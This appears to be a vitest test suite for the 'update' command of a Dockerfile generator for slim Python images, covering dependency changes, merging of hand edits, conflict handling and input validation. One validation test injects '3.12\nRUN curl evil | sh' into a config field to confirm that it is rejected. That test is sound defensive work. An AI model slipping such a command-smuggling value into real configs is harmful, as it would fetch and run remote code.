/**
 * Scenario tests of `update` on real files: requirements change and the Dockerfile follows;
 * hand edits survive; conflicts exit 3; --check gates CI; bad input exits 2.
 */
import { chmodSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, unlinkSync, writeFileSync, renameSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeEach, describe, expect, it } from 'vitest';
import { runCli } from '../support/cli.ts';

let work: string;
let app: string;
const read = (path: string) => readFileSync(join(app, path), 'utf8');
const write = (path: string, text: string) => writeFileSync(join(app, path), text);

beforeEach(async () => {
  work = mkdtempSync(join(tmpdir(), 'csp-update-'));
  app = join(work, 'app');
  const created = await runCli(['app', '--yes', '--python', '3.12', '--requirement', 'cryptography', '--requirement', 'aiohttp'], { cwd: work });
  expect(created.exitCode).toBe(0);
});

const update = (...args: string[]) => runCli(['update', app, ...args], { cwd: work });

describe('update follows requirements', () => {
  it('is up to date right after create, and --check agrees', async () => {
    const check = await update('--check');
    expect(check.exitCode).toBe(0);
    const result = await update();
    expect(result.exitCode).toBe(0);
    expect(result.stdout).toMatch(/Dockerfile: up to date/);
  });

  it('--no-bytecode drops the compile step and records the choice; --bytecode brings it back', async () => {
    expect(read('Dockerfile')).toMatch(/python3 -m compileall/);
    const off = await update('--no-bytecode');
    expect(off.exitCode).toBe(0);
    expect(JSON.parse(read('slim-python.json')).bytecode).toBe(false);
    expect(read('Dockerfile')).not.toMatch(/compileall/);
    expect((await update('--check')).exitCode).toBe(0);
    expect((await update('--bytecode')).exitCode).toBe(0);
    expect(JSON.parse(read('slim-python.json')).bytecode).toBe(true);
    expect(read('Dockerfile')).toMatch(/python3 -m compileall -q -b/);
  });

  it('adds build and runtime packages for a requirement that must compile, then removes them', async () => {
    write('requirements.txt', 'cryptography\naiohttp\npsycopg2\n');
    const check = await update('--check');
    expect(check.exitCode).toBe(1);
    expect(check.stdout).toMatch(/^\+ {6}libpq-dev/m);
    expect(read('Dockerfile')).not.toMatch(/libpq/);
    const result = await update();
    expect(result.exitCode).toBe(0);
    expect(result.stdout).toMatch(/added libpq-dev \(build\) because psycopg2 must compile/);
    expect(result.stdout).toMatch(/added libpq \(runtime\) because psycopg2 needs it at run time/);
    expect(read('Dockerfile')).toMatch(/^ {6}libpq-dev/m);
    expect((await update('--check')).exitCode).toBe(0);

    write('requirements.txt', 'cryptography\naiohttp\n');
    const back = await update();
    expect(back.stdout).toMatch(/removed libpq \(runtime\) because psycopg2 is no longer required/);
    expect(read('Dockerfile')).not.toMatch(/libpq/);
  });

  it('cryptography built from source brings the Rust toolchain; taking the wheel again removes it with the reason', async () => {
    // No cryptography pin both compiles and needs Rust on CPython 3.12 (knowledge base): every release
    // from 3.4.8 has a musllinux wheel, 3.4 to 3.4.7 do not build against OpenSSL 3 (floor 35.0.0), and
    // before 3.4 there is no Rust code. pip's --no-binary makes a wheel-carrying release compile.
    write('requirements.txt', '--no-binary cryptography\ncryptography>=44\naiohttp\n');
    const pinned = await update();
    expect(pinned.exitCode).toBe(0);
    for (const apk of ['build-base', 'cargo', 'libffi-dev', 'openssl-dev']) {
      expect(pinned.stdout).toMatch(new RegExp(`^ {2}added ${apk} \\(build\\) because cryptography must compile`, 'm'));
      expect(read('Dockerfile')).toMatch(new RegExp(`^ {6}${apk} \\\\$`, 'm'));
    }
    write('requirements.txt', 'cryptography>=42\naiohttp\n');
    const result = await update();
    expect(result.exitCode).toBe(0);
    expect(result.stdout).toMatch(/^ {2}removed build-base \(build\) because cryptography now installs from a wheel$/m);
    expect(result.stdout).toMatch(/^ {2}removed cargo \(build\) because cryptography now installs from a wheel$/m);
    expect(read('Dockerfile')).not.toMatch(/build-base|cargo|openssl-dev/);
  });

  it('keeps the file mode', async () => {
    chmodSync(join(app, 'Dockerfile'), 0o640);
    write('requirements.txt', 'aiohttp\npsycopg2\n');
    const result = await update();
    expect(result.exitCode).toBe(0);
    expect(result.stdout).toMatch(/^Dockerfile: regenerated$/m);
    // The file really was replaced (a new inode from the atomic rename), and kept its mode.
    expect(read('Dockerfile')).toMatch(/libpq-dev/);
    expect(statSync(join(app, 'Dockerfile')).mode & 0o777).toBe(0o640);
  });

  it('--dry-run prints the diff and changes nothing', async () => {
    write('requirements.txt', 'aiohttp\npsycopg2\n');
    const before = read('Dockerfile');
    const result = await update('--dry-run');
    expect(result.exitCode).toBe(0);
    expect(result.stdout).toMatch(/^--- a\/Dockerfile/m);
    expect(read('Dockerfile')).toBe(before);
  });

  it('says when a package went because you removed it', async () => {
    write('requirements.txt', 'aiohttp\npsycopg2\n');
    await update();
    const ambiguous = await update('--build-deps', '-libpq-dev');
    expect(ambiguous.exitCode).toBe(2);
    expect(ambiguous.stderr).toBe(
      'create-slim-python: the value of --build-deps starts with "-": write it as --build-deps=VALUE, here --build-deps=-libpq-dev; run "create-slim-python update --help" for the flags\n',
    );
    const result = await update('--build-deps=-libpq-dev');
    expect(result.stdout).toMatch(/removed libpq-dev \(build\) because you removed it/);
    expect(JSON.parse(read('slim-python.json')).buildDeps.remove).toEqual(['libpq-dev']);
  });

  it('flags change the config too', async () => {
    const result = await update('--python', '3.13', '--runtime-libs', '+libmagic');
    expect(result.exitCode).toBe(0);
    const config = JSON.parse(read('slim-python.json'));
    expect(config.python).toBe('3.13');
    expect(config.runtimeLibs.add).toEqual(['libmagic']);
    expect(read('Dockerfile')).toMatch(/FROM python:3\.13-alpine/);
    expect(read('Dockerfile')).toMatch(/libmagic/);
    expect((await update('--check')).exitCode).toBe(0);
  });
});

describe('update and included requirement files', () => {
  it('copies -r includes at their relative paths and follows their requirements', async () => {
    const { mkdirSync } = await import('node:fs');
    mkdirSync(join(app, 'reqs'));
    write('reqs/base.txt', 'psycopg2\n');
    write('requirements.txt', '-r reqs/base.txt\naiohttp\n');
    const result = await update();
    expect(result.exitCode).toBe(0);
    expect(read('Dockerfile')).toContain('COPY reqs/base.txt /tmp/requirements/reqs/base.txt');
    expect(read('Dockerfile')).toMatch(/libpq-dev/);
  });

  it('refuses an include whose path cannot be written in a COPY line', async () => {
    write('odd name.txt', 'psycopg2\n');
    write('requirements.txt', '-r "odd name.txt"\naiohttp\n');
    const result = await update();
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toBe(
      'create-slim-python: requirements.txt includes "odd name.txt": rename it to a plain relative path (letters, digits, ".", "_", "-", "/") so the Dockerfile can copy it\n',
    );
  });
});

describe('update keeps hand edits', () => {
  it('keeps every edited line outside the regenerated ones', async () => {
    const original = read('Dockerfile');
    const edited = original
      .replace('FROM alpine:${ALPINE_VERSION} AS release\n', 'FROM alpine:${ALPINE_VERSION} AS release\nLABEL org.opencontainers.image.source="https://example.invalid/app"\n')
      .replace(/^CMD .*$/m, 'CMD ["python", "-m", "app", "--verbose"]')
      .replace('WORKDIR /app\n', 'WORKDIR /app\n# my own comment\nENV TZ=UTC\nRUN echo hi > /tmp/hi\n');
    write('Dockerfile', edited);
    write('requirements.txt', 'cryptography\naiohttp\npsycopg2\n');
    const result = await update();
    expect(result.stderr).toBe('');
    expect(result.exitCode).toBe(0);
    expect(result.stdout).toMatch(/Dockerfile: regenerated, your edits merged in/);
    const merged = read('Dockerfile');
    for (const line of [
      'LABEL org.opencontainers.image.source="https://example.invalid/app"',
      'CMD ["python", "-m", "app", "--verbose"]',
      '# my own comment',
      'ENV TZ=UTC',
      'RUN echo hi > /tmp/hi',
    ]) {
      expect(merged).toContain(line);
    }
    expect(merged).toMatch(/libpq-dev/);
    expect((await update('--check')).exitCode).toBe(0);
  });

  it('conflicting edits: --keep leaves the file; otherwise markers and exit 3, refused until resolved', async () => {
    const original = read('Dockerfile');
    // Edit the very lines the regeneration changes: the release stage's apk line.
    const edited = original.replace(
      /^ {4}xargs apk add --no-cache ca-certificates tzdata < \/tmp\/runtime-deps$/m,
      '    xargs -t apk add --no-cache ca-certificates tzdata tini < /tmp/runtime-deps' /* not only a package: -t too, so no recognised apk edit */,
    );
    expect(edited).not.toBe(original);
    write('Dockerfile', edited);
    write('requirements.txt', 'aiohttp\npython-magic\n');

    const kept = await update('--keep');
    expect(kept.exitCode).toBe(0);
    expect(kept.stdout).toMatch(/^Dockerfile: conflict: kept your file unchanged$/m);
    expect(read('Dockerfile')).toBe(edited);
    expect(readdirSync(app)).not.toContain('Dockerfile.orig');

    const conflicted = await update();
    expect(conflicted.exitCode).toBe(3);
    expect(conflicted.stderr).toMatch(
      /^create-slim-python: conflicts in Dockerfile lines (\d+)-(\d+): edit the file to resolve them, then run update again \(or rerun with --force or --keep\)\n$/m,
    );
    const [, start, end] = /lines (\d+)-(\d+)/.exec(conflicted.stderr)!;
    const lines = read('Dockerfile').split('\n');
    expect(lines[Number(start) - 1]).toBe('<<<<<<< Dockerfile (yours)');
    expect(lines[Number(end) - 1]).toBe('>>>>>>> Dockerfile (generated now)');
    expect(lines.slice(Number(start), Number(end) - 1)).toContain('    xargs -t apk add --no-cache ca-certificates tzdata tini < /tmp/runtime-deps');
    expect(lines.slice(Number(start), Number(end) - 1)).toContain('    xargs apk add --no-cache ca-certificates tzdata libmagic < /tmp/runtime-deps');
    // Unresolved markers are refused on the next run, even with --force (which would back them up).
    const again = await update();
    expect(again.exitCode).toBe(3);
    expect(again.stderr).toMatch(/^create-slim-python: Dockerfile still has conflict markers \(lines \d+-\d+\): resolve them, then run update again\n$/);
    expect((await update('--force')).exitCode).toBe(3);
    expect(readdirSync(app)).not.toContain('Dockerfile.orig');
  });

  it('--force with --keep is a usage error, and nothing is written', async () => {
    const edited = read('Dockerfile').replace(/^ {4}xargs -r apk add --no-cache < \/tmp\/runtime-deps$/m, '    xargs -r apk add --no-cache tini < /tmp/runtime-deps');
    write('Dockerfile', edited);
    write('requirements.txt', 'aiohttp\npython-magic\n');
    const config = read('slim-python.json');
    const result = await update('--force', '--keep');
    expect(result.stderr).toBe('create-slim-python: pass --force (take the new render) or --keep (leave your file), not both\n');
    expect(result.exitCode).toBe(2);
    expect(read('Dockerfile')).toBe(edited);
    expect(read('slim-python.json')).toBe(config);
    expect(readdirSync(app)).not.toContain('Dockerfile.orig');
  });

  it('--force takes the new render and keeps a .orig backup', async () => {
    const edited = read('Dockerfile').replace(
      /^ {4}xargs apk add --no-cache ca-certificates tzdata < \/tmp\/runtime-deps$/m,
      '    xargs -t apk add --no-cache ca-certificates tzdata tini < /tmp/runtime-deps' /* not only a package: -t too, so no recognised apk edit */,
    );
    write('Dockerfile', edited);
    write('requirements.txt', 'aiohttp\npython-magic\n');
    const forced = await update('--force');
    expect(forced.exitCode).toBe(0);
    expect(forced.stdout).toMatch(/^Dockerfile: conflict: took the new render where both changed, kept your other edits \(yours saved as Dockerfile\.orig\)$/m);
    expect(read('Dockerfile.orig')).toBe(edited);
    expect(read('Dockerfile')).toMatch(/^ {4}xargs apk add --no-cache ca-certificates tzdata libmagic < \/tmp\/runtime-deps$/m);
    expect(read('Dockerfile')).not.toContain('tini');
    expect((await update('--check')).exitCode).toBe(0);
  });

  it('--force never overwrites an earlier backup: later ones are numbered', async () => {
    write('Dockerfile.orig', 'my backup from last week\n');
    // -t too, not only a package: no recognised apk edit, so a real conflict.
    const edit = (text: string) =>
      text.replace(
        /^ {4}xargs apk add --no-cache ca-certificates tzdata < \/tmp\/runtime-deps$/m,
        '    xargs -t apk add --no-cache ca-certificates tzdata tini < /tmp/runtime-deps',
      );
    const first = edit(read('Dockerfile'));
    expect(first).not.toBe(read('Dockerfile'));
    write('Dockerfile', first);
    write('requirements.txt', 'aiohttp\npython-magic\n');
    const once = await update('--force', '--json');
    expect(once.exitCode).toBe(0);
    expect(JSON.parse(once.stdout).files[0]).toMatchObject({ path: 'Dockerfile', action: 'conflict', resolution: 'force', backup: 'Dockerfile.1.orig' });
    const second = read('Dockerfile').replace('xargs apk add --no-cache ca-certificates tzdata libmagic <', 'xargs -t apk add --no-cache ca-certificates tzdata libmagic tini <');
    expect(second).not.toBe(read('Dockerfile'));
    write('Dockerfile', second);
    const twice = await update('--force', '--runtime-libs', '+curl');
    expect(twice.exitCode).toBe(0);
    expect(twice.stdout).toMatch(/^Dockerfile: conflict: took the new render where both changed, kept your other edits \(yours saved as Dockerfile\.2\.orig\)$/m);
    expect(read('Dockerfile.orig')).toBe('my backup from last week\n');
    expect(read('Dockerfile.1.orig')).toBe(first);
    expect(read('Dockerfile.2.orig')).toBe(second);
  });
});

describe('update: bad input exits 2, nothing written', () => {
  it.each([
    // The parser's own words (from V8) vary by Node version: everything around them is literal.
    ['{', /^not valid JSON at line 1, column 2 \(.+\); fix it or regenerate the project$/],
    ['{"version": 9}', '"version" is 9: this project was written by a newer create-slim-python; run the newer version (npx create-slim-python@latest)'],
  ])('corrupt config %s', async (text, message) => {
    write('slim-python.json', text);
    const before = read('Dockerfile');
    const result = await update();
    expect(result.exitCode).toBe(2);
    const prefix = `create-slim-python: ${app}/slim-python.json: `;
    expect(result.stderr.startsWith(prefix) && result.stderr.endsWith('\n')).toBe(true);
    const detail = result.stderr.slice(prefix.length, -1);
    if (typeof message === 'string') expect(detail).toBe(message);
    else expect(detail).toMatch(message);
    expect(read('Dockerfile')).toBe(before);
  });

  it('a config value failing validation names the key', async () => {
    const config = JSON.parse(read('slim-python.json'));
    write('slim-python.json', JSON.stringify({ ...config, python: '3.12\nRUN curl evil | sh' }));
    const result = await update();
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toBe(`create-slim-python: ${app}/slim-python.json: "python" contains a control character (a newline?)\n`);
  });

  it('a newer generator is refused', async () => {
    const config = JSON.parse(read('slim-python.json'));
    write('slim-python.json', JSON.stringify({ ...config, generator: '99.0.0' }));
    const result = await update();
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toBe(
      `create-slim-python: ${app}/slim-python.json: "generator" is 99.0.0, newer than this create-slim-python (0.1.0); run npx create-slim-python@latest\n`,
    );
  });

  it('a missing requirements.txt', async () => {
    unlinkSync(join(app, 'requirements.txt'));
    const result = await update();
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toBe(`create-slim-python: ${app}/requirements.txt not found: create it (it may be empty), or set "requirements" in slim-python.json\n`);
  });

  it('a missing config', async () => {
    const result = await runCli(['update', work], { cwd: work });
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toBe(`create-slim-python: ${work}/slim-python.json not found: run this in a project made by create-slim-python, or pass its directory\n`);
  });

  it('a Dockerfile that is a symlink', async () => {
    renameSync(join(app, 'Dockerfile'), join(work, 'elsewhere'));
    symlinkSync(join(work, 'elsewhere'), join(app, 'Dockerfile'));
    write('requirements.txt', 'aiohttp\npsycopg2\n');
    const result = await update();
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toBe(`create-slim-python: ${app}/Dockerfile is a symlink; refusing to read or rewrite it through the link (replace it with a regular file)\n`);
    expect(readFileSync(join(work, 'elsewhere'), 'utf8')).not.toMatch(/libpq/);
  });

  it('an invalid requirement names file and line', async () => {
    write('requirements.txt', 'aiohttp\nfoo==\n');
    const result = await update();
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toBe(
      'create-slim-python: requirements.txt:2: Invalid requirement "foo==": Expected semicolon (after name with no version specifier) or end (at character 4)\n',
    );
  });

  it('no leftover temporary files after updates', async () => {
    const before = readdirSync(app).sort();
    write('requirements.txt', 'aiohttp\npsycopg2\n');
    const result = await update();
    expect(result.exitCode).toBe(0);
    expect(read('Dockerfile')).toMatch(/libpq-dev/);
    expect(readFileSync(join(app, '.slim-python/generated/Dockerfile'), 'utf8')).toBe(read('Dockerfile'));
    // Exactly the files that were there: no temporary file, no backup, in either folder.
    expect(readdirSync(app).sort()).toEqual(before);
    expect(readdirSync(join(app, '.slim-python/generated')).sort()).toEqual(['.dockerignore', 'Dockerfile', 'packages.json']);
  });

  it('records the package lists as data beside the bases, and moves the record with the Dockerfile base', async () => {
    write('requirements.txt', 'aiohttp\npsycopg2\n');
    expect((await update()).exitCode).toBe(0);
    const record = JSON.parse(readFileSync(join(app, '.slim-python/generated/packages.json'), 'utf8'));
    expect(record.build).toEqual({ binutils: [], 'build-base': ['psycopg2'], 'libpq-dev': ['psycopg2'] });
    expect(record.runtime.libpq).toEqual(['psycopg2']);
    expect(record.runtime['ca-certificates']).toEqual([]);
  });

  it('summarises from the last generated Dockerfile when a project has no record yet (made before records)', async () => {
    write('requirements.txt', 'aiohttp\npsycopg2\n');
    expect((await update()).exitCode).toBe(0);
    rmSync(join(app, '.slim-python/generated/packages.json'));
    write('requirements.txt', 'aiohttp\n');
    const back = await update();
    expect(back.exitCode).toBe(0);
    expect(back.stdout).toMatch(/^ {2}removed libpq-dev \(build\) because psycopg2 is no longer required$/m);
    // The regenerated base brings the record back.
    expect(JSON.parse(readFileSync(join(app, '.slim-python/generated/packages.json'), 'utf8')).build).toEqual({ binutils: [] });
  });

  it('a damaged record is a usage error naming it and the fix; nothing is written', async () => {
    writeFileSync(join(app, '.slim-python/generated/packages.json'), '{"build": []}\n');
    write('requirements.txt', 'aiohttp\npsycopg2\n');
    const result = await update();
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toBe(
      'create-slim-python: .slim-python/generated/packages.json has no "build" table: delete it (update then reads the package lists from the last generated Dockerfile)\n',
    );
    expect(read('Dockerfile')).not.toMatch(/libpq/);
  });
});
